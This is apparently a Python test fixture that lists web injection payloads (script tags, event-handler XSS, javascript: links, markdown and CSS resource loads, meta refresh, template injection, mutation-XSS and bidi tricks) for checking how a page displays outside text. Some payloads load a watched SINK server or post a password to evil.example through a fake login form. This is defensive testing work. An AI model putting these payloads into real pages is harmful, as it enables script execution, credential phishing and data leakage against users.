"""Texts that try to become more than text, for every place where a page shows words from outside.

`SINK` stands for another server: a test puts an address that it watches in its place. `window.taken` is set by
whatever gets to run.
"""

from __future__ import annotations

RUN = "window.taken=1"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<img src=SINK/1 onerror={RUN}>",
    f'"><img src=x onerror="{RUN}">',
    f"'><svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<iframe src=SINK/2></iframe>",
    "<object data=SINK/3></object><embed src=SINK/3b>",
    f"<a href='javascript:{RUN}'>press</a>",
    f"[press](javascript:{RUN})",
    "[press](SINK/4)",
    "<form action='http://evil.example/login'><input name=password><button>Log in</button></form>",
    "<input type=image src=SINK/5>",
    "![](SINK/6)",
    "![seen][ref]\n\n[ref]: SINK/7",
    "<img srcset='SINK/8 1x'>",
    "<picture><source srcset=SINK/9><img src=x></picture>",
    "<video src=SINK/10 poster=SINK/10b autoplay></video>",
    "<audio src=SINK/11 autoplay></audio>",
    "<svg><image href=SINK/12 /></svg>",
    "<div style='background:url(SINK/13)'>x</div>",
    "<style>body{background:url(SINK/14)}</style>",
    "<link rel=stylesheet href=SINK/15>",
    "<meta http-equiv=refresh content='0;url=SINK/16'>",
    "<base href=SINK/17>",
    "<table background=SINK/18><tr><td>x</td></tr></table>",
    "```mermaid\ngraph TD; A[<img src=SINK/19>] --> B\n```",
    "$$\\href{SINK/20}{x}$$ $\\includegraphics{SINK/20b}$",
    "<div style='position:fixed;inset:0;z-index:9999;background:red'>Log in again</div>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"</p></div></section><script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"<scr\x00ipt>{RUN}</script>",
    "\n\n# heading\n\n<img src=SINK/21>\n\n",
    "\u202e<gpj.exe>\u2066 \U000e0041\U000e0042",
    "${alert(1)} {{constructor.constructor('window.taken=1')()}} <%= 7*7 %>",
    f"<button class=suggest onclick={RUN}>Ask me</button>",
    "<a class=cite href='#s/bad-1/1/0-5'>1</a><a class=cite href=SINK/22>2</a>",
    "SINK/23 www.evil.example mailto:a@evil.example",
    f"x' autofocus onfocus='{RUN}' y=\" onmouseover=\"{RUN}",
)


def against(sink: str) -> tuple[str, ...]:
    """Every payload, pointing at a server that is watched."""
    return tuple(payload.replace("SINK", sink) for payload in PAYLOADS)
